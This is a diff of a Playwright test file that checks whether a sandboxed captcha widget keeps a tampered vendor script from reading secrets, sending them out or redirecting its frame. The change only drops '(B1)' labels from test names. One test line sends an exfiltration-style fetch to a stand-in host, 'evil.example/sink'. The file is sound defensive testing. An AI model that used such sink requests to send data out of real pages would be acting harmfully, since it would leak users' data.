@@ -40,7 +40,7 @@ const putSecrets = (page: Page) =>
     ),
   );
 
-test('requests that may leave are seen by these tests (B1)', async ({ page, arrived }) => {
+test('requests that may leave are seen by these tests', async ({ page, arrived }) => {
   await page.goto('about:blank');
   await page.evaluate(async () => {
     await fetch('https://evil.example/sink?by=fetch');
@@ -54,7 +54,7 @@ for (const [name, sink] of [
   ['the widget’s own origin', `${sandboxUrl}/sink`],
   ['a host’s origin', `${foreignUrl}/sink`],
 ] as const) {
-  test(`a tampered vendor script reads nothing of the widget and its host, and sends nothing to ${name} (B1)`, async ({
+  test(`a tampered vendor script reads nothing of the widget and its host, and sends nothing to ${name}`, async ({
     openForm,
     operator,
     context,
@@ -102,7 +102,7 @@ for (const [name, sink] of [
 }
 
 for (const exit of ['address', 'link', 'download', 'refresh']) {
-  test(`a tampered vendor script cannot take its frame elsewhere by ${exit}, and the player gets another captcha (B1)`, async ({
+  test(`a tampered vendor script cannot take its frame elsewhere by ${exit}, and the player gets another captcha`, async ({
     openForm,
     operator,
     form,
